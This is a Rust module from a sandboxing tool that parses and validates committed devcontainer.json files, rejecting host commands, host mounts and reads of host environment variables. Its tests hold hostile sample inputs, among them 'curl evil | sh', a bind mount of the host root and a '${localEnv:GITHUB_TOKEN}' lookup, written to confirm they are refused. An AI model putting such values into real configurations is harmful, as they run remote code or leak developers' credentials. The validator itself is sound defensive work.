//! A repository's `devcontainer.json` (`[environment] devcontainer`): the image its runs use,
//! the variables the container sets (`containerEnv`), the user it names (`remoteUser`: recorded,
//! never honoured) and its create commands (`onCreateCommand`, `postCreateCommand`) as the
//! setup step. The file is JSONC (comments, trailing commas) and committed, so hostile: every
//! value is checked, and what git-sandbox cannot honour is refused by name rather than skipped.

use super::{Config, ConfigError, Location};
use serde_json::Value;
use std::collections::BTreeMap;

/// What a devcontainer.json says that a run uses.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct DevContainer {
    pub image: Option<String>,
    /// `build.dockerfile`, relative to the devcontainer.json's directory; its `context` must be
    /// the repository's root (as git-sandbox builds it).
    pub dockerfile: Option<String>,
    pub context: Option<String>,
    /// `build.args`: the values of the Dockerfile's `ARG`s of those names.
    pub args: BTreeMap<String, String>,
    pub env: BTreeMap<String, String>,
    pub remote_user: Option<String>,
    /// `onCreateCommand` then `postCreateCommand`, as one shell line.
    pub setup: Option<String>,
}

/// The most a devcontainer.json may hold.
pub const MAX_BYTES: usize = 256 * 1024;

/// Parse `text` (the file `label` names); a problem is one error naming the key and the fix.
pub fn parse(label: &str, text: &str) -> Result<DevContainer, ConfigError> {
    let err = |key: Option<&str>, message: String, hint: &str| ConfigError {
        location: Location {
            source_label: label.to_string(),
            line: None,
            key: key.map(str::to_string),
        },
        message,
        hints: vec![hint.to_string()],
    };
    let options = jsonc_parser::ParseOptions {
        allow_comments: true,
        allow_trailing_commas: true,
        allow_loose_object_property_names: false,
        ..Default::default()
    };
    let value: Value = jsonc_parser::parse_to_serde_value(text, &options).map_err(|e| {
        err(
            None,
            format!("not JSON with comments: {e}"),
            "fix the file (devcontainer.json is JSON with comments and trailing commas)",
        )
    })?;
    let Value::Object(top) = value else {
        return Err(err(
            None,
            "is not a JSON object".into(),
            "write a devcontainer.json object, like {\"image\": \"python:3.12\"}",
        ));
    };
    let text_of = |key: &str| -> Result<Option<String>, ConfigError> {
        match top.get(key) {
            None | Some(Value::Null) => Ok(None),
            Some(Value::String(s)) if !s.contains('\0') => Ok(Some(s.clone())),
            Some(_) => Err(err(
                Some(key),
                format!("{key} is not a string"),
                "write it as a string",
            )),
        }
    };
    let image = text_of("image")?;
    if let Some(i) = &image {
        gs_image::Reference::parse(i).map_err(|e| {
            let (problem, fix) = e.split_once("; ").unwrap_or((&e, ""));
            err(Some("image"), problem.to_string(), fix)
        })?;
    }
    // What a run here cannot do as the file means it: said, not skipped.
    let unsupported: [(&str, &str); 4] = [
        (
            "dockerComposeFile",
            "Docker Compose is not supported; name one image (\"image\")",
        ),
        (
            "features",
            "devcontainer features are not installed by git-sandbox; use an image that has them",
        ),
        (
            "initializeCommand",
            "initializeCommand runs on the host, which git-sandbox never does for a repository; move it into onCreateCommand",
        ),
        (
            "mounts",
            "mounts of the host are never given to a run; remove them",
        ),
    ];
    for (key, fix) in unsupported {
        let set = match top.get(key) {
            None | Some(Value::Null) => false,
            Some(Value::Object(o)) => !o.is_empty(),
            Some(Value::Array(a)) => !a.is_empty(),
            Some(_) => true,
        };
        if set {
            return Err(err(Some(key), format!("{key} cannot be honoured"), fix));
        }
    }
    let (mut dockerfile, mut context) = (None, None);
    let mut args = BTreeMap::new();
    match top.get("build") {
        None | Some(Value::Null) => {}
        Some(Value::Object(b)) => {
            for (k, v) in b {
                let text = v.as_str().filter(|t| !t.contains('\0'));
                match (k.as_str(), text) {
                    ("dockerfile", Some(t)) => dockerfile = Some(t.to_string()),
                    ("context", Some(t)) => context = Some(t.to_string()),
                    ("args", _) => {
                        args = string_map(v, "build.args")
                            .map_err(|(m, h)| err(Some("build"), m, h))?
                    }
                    _ => {
                        return Err(err(
                            Some("build"),
                            format!("build.{k} cannot be honoured"),
                            "keep to build.dockerfile, build.context and build.args",
                        ))
                    }
                }
            }
            if dockerfile.is_none() {
                return Err(err(
                    Some("build"),
                    "build names no dockerfile".into(),
                    "add \"dockerfile\": \"Dockerfile\" (relative to the devcontainer.json)",
                ));
            }
        }
        Some(_) => {
            return Err(err(
                Some("build"),
                "build is not an object".into(),
                "write {\"dockerfile\": \"…\"}",
            ))
        }
    }
    if image.is_some() == dockerfile.is_some() {
        return Err(err(
            Some("image"),
            if image.is_some() { "names both an image and a build".into() } else { "names no image".into() },
            "name one: \"image\": \"REGISTRY/NAME:TAG\" (from a registry your user config allows), or \"build\": {\"dockerfile\": \"…\"}",
        ));
    }
    let env = match top.get("containerEnv") {
        None | Some(Value::Null) => BTreeMap::new(),
        Some(v) => {
            string_map(v, "containerEnv").map_err(|(m, h)| err(Some("containerEnv"), m, h))?
        }
    };
    let mut setup = Vec::new();
    for key in ["onCreateCommand", "postCreateCommand"] {
        if let Some(v) = top.get(key) {
            if let Some(line) = command_line(v).map_err(|why| {
                err(
                    Some(key),
                    format!("{key} {why}"),
                    "write a command as a string, an array of words, or an object of either",
                )
            })? {
                setup.push(line);
            }
        }
    }
    Ok(DevContainer {
        image,
        dockerfile,
        context,
        args,
        env,
        remote_user: text_of("remoteUser")?.filter(|u| !u.is_empty()),
        setup: (!setup.is_empty()).then(|| setup.join(" && ")),
    })
}

/// An object of variables (`containerEnv`, `build.args`): names of letters, digits and `_`,
/// string values that do not read the host's environment. The error: what and the fix.
fn string_map(v: &Value, key: &str) -> Result<BTreeMap<String, String>, (String, &'static str)> {
    let Value::Object(vars) = v else {
        return Err((
            format!("{key} is not an object"),
            "write {\"NAME\": \"value\", …}",
        ));
    };
    let mut out = BTreeMap::new();
    for (name, v) in vars {
        let ok_name = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        let Some(v) = v.as_str().filter(|v| ok_name && !v.contains('\0')) else {
            return Err((
                format!("{key} {name:?} is not a variable name with a string value"),
                "write \"NAME\": \"value\" (letters, digits and _ in the name)",
            ));
        };
        // The host's environment is never read for a commit.
        if v.contains("${localEnv:") {
            return Err((
                format!("{key} {name} reads the host's environment (${{localEnv:…}})"),
                "write the value itself; a repository never reads this machine's variables",
            ));
        }
        out.insert(name.clone(), v.to_string());
    }
    Ok(out)
}

/// A lifecycle command as one shell line: a string as it is, an array as its words quoted, an
/// object as its commands one after another (in the order of their names).
fn command_line(v: &Value) -> Result<Option<String>, String> {
    match v {
        Value::Null => Ok(None),
        Value::String(s) if s.contains('\0') => Err("holds a NUL byte".into()),
        Value::String(s) if s.trim().is_empty() => Ok(None),
        Value::String(s) => Ok(Some(s.clone())),
        Value::Array(words) => {
            let mut out = Vec::new();
            for w in words {
                let w = w.as_str().ok_or("has a word that is not a string")?;
                out.push(gs_util::shell::quote(w).map_err(|_| "holds a NUL byte")?);
            }
            Ok((!out.is_empty()).then(|| out.join(" ")))
        }
        Value::Object(named) => {
            let mut lines = Vec::new();
            for v in named.values() {
                if matches!(v, Value::Object(_)) {
                    return Err("nests an object".into());
                }
                lines.extend(command_line(v)?.map(|l| format!("( {l} )")));
            }
            Ok((!lines.is_empty()).then(|| lines.join(" && ")))
        }
        _ => Err("is not a command".into()),
    }
}

/// Lay `dc`, read from `path`, over `config`: its image (or its Dockerfile) unless the config
/// names one, its variables, its user, and its create commands as the setup step unless
/// `[test] setup` is set. A build whose context is not the repository's root is refused.
pub fn apply(dc: &DevContainer, path: &str, config: &mut Config) -> Result<(), ConfigError> {
    let named = config.environment.image.is_some() || config.environment.dockerfile.is_some();
    if !named {
        config.environment.image = dc.image.clone();
        if let Some(file) = &dc.dockerfile {
            let dir = path.rsplit_once('/').map_or("", |(d, _)| d);
            let err = |message: String| ConfigError {
                location: Location {
                    source_label: path.to_string(),
                    line: None,
                    key: Some("build".into()),
                },
                message,
                hints: vec![
                    "set build.context to the repository's root (\"..\" from .devcontainer/)"
                        .into(),
                ],
            };
            let context = clean(dir, dc.context.as_deref().unwrap_or("."))
                .ok_or_else(|| err("build.context leaves the repository".into()))?;
            if !context.is_empty() {
                return Err(err(format!(
                    "build.context is {context:?}: git-sandbox builds with the repository's root as the context"
                )));
            }
            config.environment.dockerfile = Some(
                clean(dir, file)
                    .ok_or_else(|| err("build.dockerfile leaves the repository".into()))?,
            );
            config.environment.build_args = dc.args.clone();
        }
    }
    config.environment.env = dc.env.clone();
    config.environment.remote_user = dc.remote_user.clone();
    if config.test.setup.is_none() {
        config.test.setup = dc.setup.clone();
    }
    Ok(())
}

/// `rel` under the directory `dir` of the repository, made clean; `None` when it leaves it.
fn clean(dir: &str, rel: &str) -> Option<String> {
    if rel.starts_with('/') {
        return None;
    }
    gs_util::path_within(dir, rel)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn jsonc_with_comments_and_trailing_commas_gives_image_env_user_and_setup() {
        let dc = parse(
            "d.json",
            r#"// A project's container
            {
              "name": "x", /* ignored */
              "image": "ghcr.io/o/python:3.12",
              "containerEnv": {"APP_MODE": "test", "X_1": "a b",},
              "remoteUser": "vscode",
              "onCreateCommand": ["pip", "install", "-r", "requirements dev.txt"],
              "postCreateCommand": {"a": "make deps", "b": ["echo", "ok"]},
              "customizations": {"vscode": {"extensions": ["x"]}},
            }"#,
        )
        .unwrap();
        assert_eq!(dc.image.as_deref(), Some("ghcr.io/o/python:3.12"));
        assert_eq!(dc.env["APP_MODE"], "test");
        assert_eq!(dc.env["X_1"], "a b");
        assert_eq!(dc.remote_user.as_deref(), Some("vscode"));
        assert_eq!(
            dc.setup.as_deref(),
            Some("pip install -r 'requirements dev.txt' && ( make deps ) && ( echo ok )")
        );
    }

    #[test]
    fn what_cannot_be_honoured_is_refused_by_key() {
        for (text, key) in [
            (
                r#"{"build": {"dockerfile": "D", "target": "dev"}}"#,
                "build",
            ),
            (r#"{"image": "x", "build": {"dockerfile": "D"}}"#, "image"),
            (
                r#"{"image": "x", "features": {"ghcr.io/f/node:1": {}}}"#,
                "features",
            ),
            (
                r#"{"image": "x", "initializeCommand": "curl evil | sh"}"#,
                "initializeCommand",
            ),
            (
                r#"{"image": "x", "mounts": ["source=/,target=/host,type=bind"]}"#,
                "mounts",
            ),
            (
                r#"{"image": "x", "containerEnv": {"T": "${localEnv:GITHUB_TOKEN}"}}"#,
                "containerEnv",
            ),
            (
                r#"{"image": "x", "containerEnv": {"A B": "x"}}"#,
                "containerEnv",
            ),
            (r#"{"image": "Bad Ref"}"#, "image"),
            (r#"{"name": "no image"}"#, "image"),
            (
                r#"{"image": "x", "postCreateCommand": 5}"#,
                "postCreateCommand",
            ),
        ] {
            let e = parse("d.json", text).unwrap_err();
            assert_eq!(e.location.key.as_deref(), Some(key), "{text}: {e:?}");
            assert!(!e.hints.is_empty(), "{text}");
        }
        let e = parse("d.json", "{ not json").unwrap_err();
        assert!(e.message.contains("not JSON"), "{e:?}");
    }
}

#[cfg(test)]
mod build_tests {
    use super::*;

    #[test]
    fn a_build_names_the_dockerfile_with_the_repository_as_its_context() {
        let dc = parse(
            "d",
            r#"{"build": {"dockerfile": "Dockerfile", "context": ".."}}"#,
        )
        .unwrap();
        let mut c = Config::default();
        apply(&dc, ".devcontainer/devcontainer.json", &mut c).unwrap();
        assert_eq!(
            c.environment.dockerfile.as_deref(),
            Some(".devcontainer/Dockerfile")
        );
        let dc = parse("d", r#"{"build": {"dockerfile": "Dockerfile"}}"#).unwrap();
        let e = apply(
            &dc,
            ".devcontainer/devcontainer.json",
            &mut Config::default(),
        )
        .unwrap_err();
        assert!(e.message.contains("\".devcontainer\""), "{e:?}");
        let dc = parse(
            "d",
            r#"{"build": {"dockerfile": "../../x", "context": ".."}}"#,
        )
        .unwrap();
        assert!(apply(
            &dc,
            ".devcontainer/devcontainer.json",
            &mut Config::default()
        )
        .is_err());
    }

    #[test]
    fn build_args_reach_the_config_and_never_read_the_hosts_environment() {
        let dc = parse(
            "d",
            r#"{"build": {"dockerfile": "Dockerfile", "context": "..", "args": {"VARIANT": "3.12", "NODE_VERSION": "none"}}}"#,
        )
        .unwrap();
        let mut c = Config::default();
        apply(&dc, ".devcontainer/devcontainer.json", &mut c).unwrap();
        assert_eq!(
            c.environment.build_args,
            BTreeMap::from([
                ("NODE_VERSION".to_string(), "none".to_string()),
                ("VARIANT".to_string(), "3.12".to_string()),
            ])
        );
        for args in [
            r#"{"T": "${localEnv:GITHUB_TOKEN}"}"#,
            r#"{"A B": "x"}"#,
            r#"{"N": 5}"#,
            r#"["x"]"#,
        ] {
            let text = format!(r#"{{"build": {{"dockerfile": "D", "args": {args}}}}}"#);
            let e = parse("d", &text).unwrap_err();
            assert_eq!(e.location.key.as_deref(), Some("build"), "{args}: {e:?}");
            assert!(e.message.starts_with("build.args"), "{args}: {e:?}");
        }
    }
}
